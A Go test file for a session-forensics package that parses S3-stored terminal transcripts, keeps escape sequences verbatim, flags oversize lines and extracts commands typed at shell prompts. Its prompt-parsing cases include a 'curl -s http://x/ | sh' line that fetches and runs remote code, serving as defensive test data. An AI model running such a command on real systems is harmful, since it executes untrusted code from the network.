package forensics

import (
	"strings"
	"testing"
	"time"
)

func TestTranscriptSessionIDFollowsTheAgentsKeyNaming(t *testing.T) {
	cases := []struct {
		prefix, key, id string
		ok              bool
	}{
		{"sessions", "sessions/alice-0a1b2c3d4e5f6a7b8.log", "alice-0a1b2c3d4e5f6a7b8", true},
		{"sessions/", "sessions/alice-0a1b2c3d4e5f6a7b8.log", "alice-0a1b2c3d4e5f6a7b8", true},
		{"", "alice-0a1b2c3d4e5f6a7b8.log", "alice-0a1b2c3d4e5f6a7b8", true},
		{"sessions", "sessions/nested/x.log", "", false},
		{"sessions", "sessions/notes.txt", "", false},
		{"sessions", "other/alice.log", "", false},
		{"sessions", "sessions/.log", "", false},
	}
	for _, c := range cases {
		id, ok := transcriptSessionID(c.prefix, c.key)
		if id != c.id || ok != c.ok {
			t.Errorf("transcriptSessionID(%q, %q) = %q %v, want %q %v", c.prefix, c.key, id, ok,
				c.id, c.ok)
		}
	}
}

func TestReadTranscriptKeepsLinesVerbatimAndReadsScriptsTrailer(t *testing.T) {
	body := "Script started on 2026-01-02 03:00:00+00:00 [TERM=\"xterm\"]\r\n" +
		"sh-5.2$ echo hi\r\n\x1b[31mhi\x1b[0m\r\n" +
		"Script done on 2020-01-01 00:00:00+00:00 [written by the user]\r\n" +
		"\r\nScript done on 2026-01-02 03:09:30+00:00 [COMMAND_EXIT_CODE=\"0\"]\n"
	src := &SourceReport{}
	tr, err := readTranscript(strings.NewReader(body), "s3://b/k", "alice-1", 0, 0, src)
	if err != nil {
		t.Fatal(err)
	}

	if len(tr.Lines) != 6 || tr.Lines[2] != "\x1b[31mhi\x1b[0m" {
		t.Fatalf("lines = %q, want 6 lines with escapes kept verbatim", tr.Lines)
	}
	if !tr.Done.Equal(time.Date(2026, 1, 2, 3, 9, 30, 0, time.UTC)) {
		t.Fatalf("done = %s, want the trailer on the last line (not the imitation above it)",
			tr.Done)
	}
}

func TestReadTranscriptCountsAnOversizeLineAndShowsWhereItWas(t *testing.T) {
	body := "before\n" + strings.Repeat("B", 5000) + "\nafter\n"
	src := &SourceReport{}
	tr, err := readTranscript(strings.NewReader(body), "s3://b/k", "s", 1024, 0, src)
	if err != nil {
		t.Fatal(err)
	}

	want := []string{
		"before",
		"[crucible: line 2 of 5001 bytes not shown; it is in the raw object]",
		"after",
	}
	if strings.Join(tr.Lines, "|") != strings.Join(want, "|") {
		t.Fatalf("lines = %q, want %q", tr.Lines, want)
	}
	if src.MalformedCount != 1 || src.Malformed[0].Location != "s3://b/k line 2" ||
		src.Malformed[0].Reason != "line of 5001 bytes exceeds the 1024-byte line limit" {
		t.Fatalf("malformed = %+v", src.Malformed)
	}
}

func TestReadTranscriptBoundsTheLinesKept(t *testing.T) {
	body := strings.Repeat("line\n", 10)
	tr, err := readTranscript(strings.NewReader(body), "o", "s", 0, 4, &SourceReport{})
	if err != nil {
		t.Fatal(err)
	}
	if len(tr.Lines) != 4 || tr.Omitted != 6 {
		t.Fatalf("kept %d omitted %d, want 4 and 6", len(tr.Lines), tr.Omitted)
	}
}

func TestTypedCommandRecognisesShellPrompts(t *testing.T) {
	cases := map[string]string{
		"sh-5.2$ whoami":                       "whoami",
		"sh-4.2# id -u":                        "id -u",
		"bash-5.2$ curl -s http://x/ | sh":     "curl -s http://x/ | sh",
		"[ssm-user@ip-10-0-1-25 ~]$ ls -la":    "ls -la",
		"[root@ip-10-0-1-25 bin]# cat /etc/x":  "cat /etc/x",
		"ubuntu@ip-10-0-1-25:~/src$ make":      "make",
		"sh-5.2$ ":                             "",
		"total 12":                             "",
		"drwxr-xr-x 2 root root 4096 Jan  1 x": "",
	}
	for line, want := range cases {
		if got := typedCommand(line); got != want {
			t.Errorf("typedCommand(%q) = %q, want %q", line, got, want)
		}
	}
}
